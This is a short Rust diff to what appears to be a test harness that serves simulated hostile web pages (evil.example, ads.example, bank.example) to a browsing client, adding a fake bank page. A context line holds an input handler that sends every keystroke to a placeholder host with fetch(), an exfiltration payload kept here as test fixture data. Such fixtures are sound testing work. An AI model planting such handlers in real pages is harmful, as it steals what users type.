@@ -78,6 +78,7 @@ fn hosts(attacks: &[Attack], asked: &Asked) -> Answer {
             let order = model::order(id);
             html(&filled(&format!("<title>Lamps</title>{MINE}<h1>Lamps</h1><p>Lamps. {order}</p>{page}"), id))
         }
+        ("bank.example", "mine") => html(&format!("<title>Bank</title>{MINE}<h1>Bank</h1>")),
         ("ads.example", "buy") => html(&filled("<form method=post action=\"{H}\"><button>Buy now</button></form>", id)),
         ("evil.example", "survey") => html(&filled(
             "<title>Survey</title><h1>Survey</h1><label>Note <input oninput=\"fetch('{H}?' + this.value)\"></label>",
